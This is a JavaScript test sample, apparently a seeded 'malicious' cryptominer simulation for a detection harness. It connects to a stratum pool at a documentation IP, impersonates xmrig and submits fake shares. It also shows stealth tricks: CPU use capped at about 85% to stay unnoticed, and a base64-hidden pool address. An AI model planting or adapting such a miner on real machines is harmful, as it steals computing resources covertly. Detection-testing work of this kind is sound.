// Malicious seed 4: a cryptominer. One long-lived stratum connection to the pool (subscribe, authorize, jobs pushed
// with mining.notify, a share submitted now and then) and a hashing loop in a worker thread of the same process.
// The pool comes from --pool host:port (no stratum+tcp URL on the command line, as with a config-file miner).
// --pool-b64 gives it base64-encoded instead (a name the miner resolves itself; nothing readable on its command line).
// Usage: node miner.mjs --seed N (--pool 203.0.113.77:3333 | --pool-b64 BASE64) --log FILE
import net from 'node:net';
import { Worker } from 'node:worker_threads';
import { args, rng, seedFor, ready, logger, onStop, lifetime } from './lib.mjs';

const opt = args();
const r = rng(seedFor(opt.seed ?? 1, 'miner'));
const log = logger(opt.log);
const pool = opt['pool-b64'] ? Buffer.from(opt['pool-b64'], 'base64').toString('utf8') : opt.pool ?? '203.0.113.77:3333';
const [host, portText] = pool.split(':');
lifetime(opt['max-life-ms'] ?? 120_000);

// The hashing loop: SHA-256 over a nonce, busy ~85% of the time (a miner capped below 100% to stay unnoticed).
const worker = new Worker(
  `const { createHash } = require('node:crypto');
   const { parentPort } = require('node:worker_threads');
   let nonce = 0, best = 'f';
   const end = Date.now() + 110000;
   function burst() {
     const until = Date.now() + 85;
     while (Date.now() < until) {
       const h = createHash('sha256').update('job' + nonce++).digest('hex');
       if (h < best) best = h;
     }
     if (Date.now() < end) setTimeout(burst, 15);
   }
   setInterval(() => parentPort.postMessage({ nonce, best: best.slice(0, 8) }), 5000).unref();
   burst();`,
  { eval: true },
);
let hashes = 0;
worker.on('message', (m) => (hashes = m.nonce));

const c = net.connect({ host, port: Number(portText) });
onStop(() => {
  c.destroy();
  worker.terminate();
});
let id = 1;
let buf = '';
let jobs = 0;
const send = (o) => c.write(`${JSON.stringify(o)}\n`);
c.on('connect', () => {
  log({ kind: 'connected', pool: `${host}:${portText}`, address: c.remoteAddress });
  send({ id: id++, method: 'mining.subscribe', params: ['xmrig/6.21.0'] });
  send({ id: id++, method: 'mining.authorize', params: ['4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx.rig1', 'x'] });
});
c.on('data', (d) => {
  buf += d.toString('utf8');
  let nl;
  while ((nl = buf.indexOf('\n')) >= 0) {
    const line = buf.slice(0, nl);
    buf = buf.slice(nl + 1);
    try {
      const m = JSON.parse(line);
      if (m.method === 'mining.notify') {
        jobs++;
        if (r.next() < 0.5) send({ id: id++, method: 'mining.submit', params: ['rig1', m.params[0], '00000000', m.params[7], r.int(0, 2 ** 31).toString(16)] });
      }
    } catch {}
  }
});
c.on('error', (e) => log({ kind: 'error', code: e.code }));
setInterval(() => log({ kind: 'status', jobs, hashes }), 5000).unref();
ready({ pool: `${host}:${portText}` });
